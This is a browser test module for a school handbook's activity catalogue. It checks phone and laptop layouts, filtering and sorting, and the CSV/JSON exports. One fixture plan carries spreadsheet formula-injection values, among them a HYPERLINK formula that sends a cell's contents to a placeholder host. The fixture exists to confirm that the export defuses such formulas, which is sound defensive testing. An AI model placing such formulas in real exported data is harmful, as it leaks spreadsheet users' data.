"""The catalogue as phone users and coordinators read it (issue 27): on a phone the activities
come first, as short cards, with the filters folded behind a button that says how many are
set and a "Sort by" list in place of the hidden header row; on a laptop the checkbox stands on
its label's line, an outcome on a line of its own, headers look like the buttons they are, and
filters that match nothing say so with the way back; everywhere, the activities the filters
select can be taken away as the published CSV and JSON write them, addresses in full.

One page a width, shared by the tests of that width; the downloads are checked on a site of
their own, built with its address, holding cells a spreadsheet would run and a view of more
rows than a view file holds.
"""

from __future__ import annotations

import csv
import io
import json
import statistics
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.browser.conftest import PHONE, settle
from tests.support.project import Site, build_site, make_project
from tests.support.synthetic import write_plans
from tests.support.web import serve_site

CARD = 250
"""How tall a phone's card of one activity may be, in CSS pixels (median of the first page):
cards of a labelled block per column were 400 to 525."""

ROWS = "rows => rows.map(r => r.dataset.activity)"


@pytest.fixture(scope="module")
def phone(browser: Any, base_url: str) -> Iterator[Any]:
    """The catalogue on a phone's screen, as a first visit draws it."""
    context = browser.new_context(viewport=PHONE)
    page = context.new_page()
    page.goto(base_url + "catalogue/")
    settle(page)
    yield page
    context.close()


@pytest.fixture(scope="module")
def laptop(browser: Any, base_url: str) -> Iterator[Any]:
    """The catalogue on a laptop's screen, showing the promising practices (which have outcomes)."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(base_url + "catalogue/?practice=1")
    settle(page)
    yield page
    context.close()


def test_on_a_phone_the_activities_come_first_as_short_cards(phone: Any) -> None:
    toggle = phone.locator("#catalogue-filters-toggle")
    assert toggle.is_visible() and toggle.inner_text().strip() == "Filters"
    assert toggle.get_attribute("aria-expanded") == "false"
    assert not phone.locator("#catalogue-filters").is_visible()
    cards = phone.eval_on_selector_all(
        "#catalogue-table tbody tr",
        "rows => rows.map(r => { const box = r.getBoundingClientRect(); return [box.top + scrollY, box.height]; })",
    )
    first_top = cards[0][0]
    assert first_top < PHONE["height"], f"the first activity starts at {first_top}px, below the first screen"
    heights = [height for _, height in cards]
    assert statistics.median(heights) < CARD, f"cards are {sorted(heights)}px tall"
    labelled_but_empty = phone.eval_on_selector_all(
        "#catalogue-table tbody td",
        """cells => cells.filter(c => c.getClientRects().length && !c.textContent.trim())
                         .map(c => c.dataset.label)""",
    )
    assert labelled_but_empty == []
    first = phone.locator("#catalogue-table tbody tr").first
    # the activity leads the card, then the plan and goal it comes from, in one short line
    link, source = (first.locator(selector).bounding_box() for selector in ("a", ".handbook-card-source"))
    assert link is not None and source is not None and link["y"] < source["y"]
    assert first.locator("td[data-label=Plan]").is_hidden()


def test_on_a_phone_the_filter_button_counts_the_filters_set(phone: Any) -> None:
    toggle = phone.locator("#catalogue-filters-toggle")
    toggle.click()
    assert toggle.get_attribute("aria-expanded") == "true"
    phone.select_option("select[name=level]", "school")
    phone.fill("input[name=text]", "reading")
    phone.wait_for_function("location.search.includes('text=reading')")
    assert toggle.inner_text().strip() == "Filters, 2 active"
    phone.click("#catalogue-filters button[type=reset]")
    phone.wait_for_function("location.search === ''")
    assert toggle.inner_text().strip() == "Filters"
    toggle.click()
    assert toggle.get_attribute("aria-expanded") == "false"


def test_on_a_phone_sort_by_offers_what_the_headers_offer_and_sorts(phone: Any) -> None:
    keys = phone.eval_on_selector_all("#catalogue-table thead button", "bs => bs.map(b => b.dataset.sort)")
    offered = phone.eval_on_selector_all("#catalogue-sort option", "os => os.map(o => o.value)")
    assert offered == [value for key in keys for value in (key, f"-{key}")]
    assert phone.locator("#catalogue-sort").is_visible()
    phone.select_option("#catalogue-sort", "-plan")
    phone.wait_for_function("location.search.includes('sort=-plan')")
    titles = phone.eval_on_selector_all(
        "#catalogue-table tbody td[data-label=Plan]", "cells => cells.map(c => c.textContent.toLowerCase())"
    )
    assert titles == sorted(titles, reverse=True) and titles[0] != titles[-1]
    assert phone.get_attribute("#catalogue-table th:first-child", "aria-sort") == "descending"
    phone.select_option("#catalogue-sort", "plan")
    phone.wait_for_function("!location.search.includes('sort=')")


def test_on_a_laptop_the_checkbox_and_the_outcome_sit_on_their_own_lines(laptop: Any) -> None:
    box, words = laptop.evaluate(
        """() => {
          const box = document.querySelector('#catalogue-filters input[name=practice]');
          const text = [...box.closest('label').childNodes].find(n => n.nodeType === 3 && n.data.trim());
          const words = document.createRange();
          words.selectNodeContents(text);
          return [box.getBoundingClientRect(), words.getClientRects()[0]].map(r => r.top + r.height / 2);
        }"""
    )
    assert abs(box - words) <= 4, f"the checkbox's middle is at {box}px, its words' at {words}px"
    link, outcome = laptop.evaluate(
        """() => {
          const cell = document.querySelector('#catalogue-table .handbook-outcome').closest('td');
          return [cell.querySelector('a').getBoundingClientRect().bottom,
                  cell.querySelector('.handbook-outcome').getBoundingClientRect().top];
        }"""
    )
    assert outcome >= link - 1, "the outcome runs on from the activity's link"


def test_on_a_laptop_headers_look_like_buttons_that_sort_and_stay_with_sort_by(laptop: Any) -> None:
    looks = laptop.eval_on_selector_all(
        "#catalogue-table thead th",
        """ths => ths.map(th => {
          const button = th.querySelector('button');
          return [th.getAttribute('aria-sort'), getComputedStyle(button).borderTopStyle,
                  getComputedStyle(button, '::after').content];
        })""",
    )
    assert [sort for sort, _, _ in looks] == ["ascending"] + ["none"] * (len(looks) - 1)
    assert all(border == "solid" and ("↕" in arrow or "▲" in arrow) for _, border, arrow in looks), looks
    laptop.click("#catalogue-table thead button[data-sort=level]")
    laptop.wait_for_function("location.search.includes('sort=level')")
    assert laptop.input_value("#catalogue-sort") == "level"
    laptop.click("#catalogue-table thead button[data-sort=level]")
    laptop.wait_for_function("location.search.includes('sort=-level')")
    assert laptop.input_value("#catalogue-sort") == "-level"
    assert laptop.get_attribute("#catalogue-table th:nth-child(2)", "aria-sort") == "descending"
    laptop.select_option("#catalogue-sort", "plan")
    laptop.wait_for_function("!location.search.includes('sort=')")


def test_on_a_laptop_filters_that_match_nothing_say_so_and_clear(laptop: Any) -> None:
    laptop.select_option("select[name=level]", "state")  # with practice=1: no state plan has one
    laptop.wait_for_function("location.search.includes('level=state')")
    empty = laptop.locator("#catalogue-empty")
    assert empty.is_visible() and "No activity matches" in empty.inner_text()
    assert not laptop.locator("#catalogue-table").is_visible()  # no table of headers alone
    empty.get_by_role("button", name="Clear filters").click()
    laptop.wait_for_function("location.search === ''")
    settle(laptop)
    assert laptop.locator("#catalogue-table tbody tr").count() > 10 and empty.is_hidden()
    assert laptop.evaluate("document.activeElement.id") == "catalogue-results"


FORMULAS = """
    ---
    title: Formula Elementary One-Year Action Plan
    level: school
    year: "2026-27"
    goals:
      - title: "=Goals that look like formulas"
        kind: climate
        audience: '@Families, teachers and "partners"'
        activities:
          - text: '=HYPERLINK("https://example.org/?d="&A1, "Click")'
            type: Communicating
            grades: K-2
            dates: "@once a month"
            responsible: "+1 555 0100"
            costs: "-50"
            preparations: "\tIndented with a tab"
          - text: 'Hold "family nights", twice a year'
            type: Parenting
            expected_results: "-2 absences, at least"
            status: done
            outcome: "+20 families came."
            practice: true
    ---
"""
"""A plan whose words a spreadsheet would run as formulas, and whose words need quoting in CSV."""

ADDRESS = "https://handbook.example.org/state/"


@pytest.fixture(scope="module")
def addressed_site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """A site built knowing its address, with the formula plan, and school activities enough
    (synthetic plans) that their view file holds only the first of them."""
    project = make_project(tmp_path_factory.mktemp("addressed"), {"formulas.md": FORMULAS}, samples=False)
    write_plans(project / "plans", 12)
    with pytest.MonkeyPatch.context() as env:
        env.setenv("HANDBOOK_SITE_URL", ADDRESS)
        return build_site(project)


def published(site: Site) -> tuple[str, list[dict[str, Any]]]:
    return (
        site.path("catalogue/activities.csv").read_bytes().decode("utf-8"),
        json.loads(site.path("catalogue/activities.json").read_text("utf-8")),
    )


def test_built_with_its_address_the_downloads_give_full_addresses(addressed_site: Site) -> None:
    text, rows = published(addressed_site)
    assert rows and all(row["url"].startswith(f"{ADDRESS}plans/") for row in rows)
    assert all(row["url"].startswith(f"{ADDRESS}plans/") for row in csv.DictReader(io.StringIO(text)))


def test_the_page_downloads_every_activity_its_filters_select_as_the_published_files_write_them(
    browser: Any, addressed_site: Site, tmp_path: Path
) -> None:
    """`?level=school` comes from a view file holding its first 100 rows; the download holds
    all of them, each line as the published CSV writes it (formulas made harmless, quotes
    doubled), its address in full from the page's own."""
    text, rows = published(addressed_site)
    lines = text.removeprefix("\ufeff").removesuffix("\r\n").split("\r\n")
    by_activity = {
        (row["plan"], row["goal"], row["activity"]): line for row, line in zip(rows, lines[1:], strict=True)
    }
    schools = [row for row in rows if row["level"] == "school"]
    wanted = [by_activity[(row["plan"], row["goal"], row["activity"])] for row in schools]
    assert len(schools) > 100
    assert any(
        line.startswith("formulas,") and "'=HYPERLINK" in line and "'+1 555" in line for line in wanted
    )
    with serve_site(addressed_site.root) as base_url:
        context = browser.new_context(accept_downloads=True)
        page = context.new_page()
        page.goto(base_url + "catalogue/?level=school")
        settle(page)
        assert page.evaluate("window.handbookCatalogueStatus.source") == "view"
        assert page.locator("#catalogue-table tbody tr").count() == 100
        offer = page.locator("#catalogue-download")
        assert offer.inner_text().startswith(f"Download these {len(schools)} activities")
        files = {}
        for kind in ("csv", "json"):
            with page.expect_download() as download:
                offer.locator(f"a[data-format={kind}]").click()
            files[kind] = Path(download.value.path()).read_bytes().decode("utf-8")
        context.close()

    def here(url: str) -> str:
        return url.replace(base_url, ADDRESS, 1)

    made = files["csv"]
    assert made.startswith("\ufeff") and made.endswith("\r\n")
    made_lines = made.removeprefix("\ufeff").removesuffix("\r\n").split("\r\n")
    assert made_lines[0] == lines[0]  # the published header
    assert sorted(here(line) for line in made_lines[1:]) == sorted(wanted)
    made_rows = json.loads(files["json"])
    assert sorted(json.dumps({**row, "url": here(row["url"])}) for row in made_rows) == sorted(
        json.dumps(row) for row in schools
    )
